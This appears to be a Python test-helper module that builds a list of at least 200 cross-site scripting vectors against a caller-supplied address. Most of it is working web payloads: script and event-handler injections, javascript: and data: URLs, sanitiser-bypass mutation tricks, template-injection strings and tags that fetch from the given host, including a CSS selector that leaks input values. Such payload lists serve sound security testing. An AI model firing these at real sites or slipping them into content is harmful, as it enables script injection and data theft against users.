# SPDX-License-Identifier: Apache-2.0
"""xss_vectors - texts that become code, or fetch something, where a page is careless with them.

    for vector in vectors("http://127.0.0.1:1234"): ...

What one fetches is below the address given, what one runs opens a dialog or fetches."""

HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart",
            "onbegin", "onpointerrawupdate")
TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "iframe",
        "object data=x")
SCHEMES = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
           "&#106;avascript:alert(1)", "data:text/html,<script>alert(1)</script>",
           "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)",
           "blob:alert(1)")
PLACES = ('<a href="%s">x</a>', '<iframe src="%s"></iframe>', '<embed src="%s">',
          '<object data="%s"></object>', '<form action="%s"><button>x</button></form>',
          '<svg><a xlink:href="%s"><text y=20>x</text></a></svg>')
OWN = """
<script>alert(1)</script>
<script src=@/s.js></script>
<script type=module>import "@/m.js"</script>
<SCRIPT>alert(1)</SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
"><script>alert(1)</script>
'><script>alert(1)</script>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</pre></div></main><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<svg><script>alert(1)</script></svg>
<svg><script href="data:text/javascript,alert(1)"/></svg>
<math><mtext></p><style><!--</style><img src=x onerror=alert(1)>
<math><mi><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<template><script>alert(1)</script></template>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe srcdoc="<img src=@/frame.png>"></iframe>
<iframe src="@/frame.html"></iframe>
<frameset><frame src="@/frameset.html"></frameset>
<object data="@/object.swf"></object>
<embed src="@/embed.swf">
<img src="@/pixel.png">
<img srcset="@/one.png 1x, @/two.png 2x">
<picture><source srcset="@/source.png"><img src=x></picture>
<input type=image src="@/input.png">
<video poster="@/poster.png" src="@/video.mp4" autoplay></video>
<audio src="@/audio.mp3" autoplay></audio>
<track src="@/track.vtt">
<body background="@/background.png">
<table background="@/table.png"><tr><td background="@/cell.png">x</td></tr></table>
<div style="background:url(@/css.png)">x</div>
<div style="list-style-image:url('@/list.png');display:list-item">x</div>
<div style="border-image:url(@/border.png) 1;border:1px solid">x</div>
<div style="cursor:url(@/cursor.cur),auto">x</div>
<div style="width:expression(alert(1))">x</div>
<style>@import url(@/import.css);</style>
<style>@font-face{font-family:f;src:url(@/font.woff)}body{font-family:f}</style>
<style>body{background:image-set("@/set.png" 1x)}</style>
<style>input[value^=a]{background:url(@/leak.png)}</style><input value=abc>
<link rel=stylesheet href="@/link.css">
<link rel=preload as=image href="@/preload.png">
<link rel=prefetch href="@/prefetch.html">
<link rel=preconnect href="@">
<LINK rel=preconnect href="@" crossorigin>
<link/rel=preconnect href="@">
<link rel=dns-prefetch href="@">
<link rel=modulepreload href="@/module.js">
<link rel=manifest href="@/manifest.json">
<link rel=icon href="@/icon.png">
<link rel="prerender" href="@/prerender.html">
<link rel=search type="application/opensearchdescription+xml" href="@/search.xml">
<meta http-equiv=refresh content="0;url=@/refresh.html">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<META HTTP-EQUIV="Link" Content="<@/meta.css>; REL=stylesheet">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<meta http-equiv="x-dns-prefetch-control" content="on"><a href="@/prefetched.html">x</a>
<base href="@/"><img src="based.png">
<a href="@/ping.html" ping="@/ping">x</a>
<a href="@/blank.html" target=_blank>x</a>
<a href="@/top.html" target=_top>x</a>
<form action="@/form"><input name=a value=b autofocus></form>
<form action="@/form2" id=f></form><button form=f formaction=javascript:alert(1)>x</button>
<svg><image href="@/image.svg" /></svg>
<svg><use href="@/use.svg#a" /></svg>
<svg><feImage href="@/fe.png" /></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><foreignObject><iframe src="@/foreign.html"></iframe></foreignObject></svg>
<svg><style>@import url(@/svg.css);</style></svg>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#@/math">x</maction></math>
<isindex action=javascript:alert(1) type=image>
<keygen autofocus onfocus=alert(1)>
<portal src="@/portal.html"></portal>
<fencedframe src="@/fenced.html"></fencedframe>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["@/speculation.html"]}]}</script>
<script type=importmap>{"imports":{"./dom.js":"@/dom.js"}}</script>
<x onclick=alert(1) style="position:fixed;inset:0">x</x>
<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<div contenteditable onblur=alert(1) autofocus>x</div>
<a href="#/setup/x" id=app name=app>x</a>
<div id=announcer></div><div id=notes></div>
<input id=main name=main><form id=main></form>
{{constructor.constructor('alert(1)')()}}
${alert(1)}
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
javascript:alert(1)
@/plain-text-link
""".strip().split("\n")


def vectors(evil):
    """All of them, different ones, at least 200."""
    found = [line.replace("@import", "\0").replace("@font", "\1").replace("@", evil)
             .replace("\0", "@import").replace("\1", "@font") for line in OWN]
    found += ["<%s %s=alert(1)>" % (tag, handler) for tag in TAGS for handler in HANDLERS]
    found += [place % scheme for place in PLACES for scheme in SCHEMES]
    return list(dict.fromkeys(found))
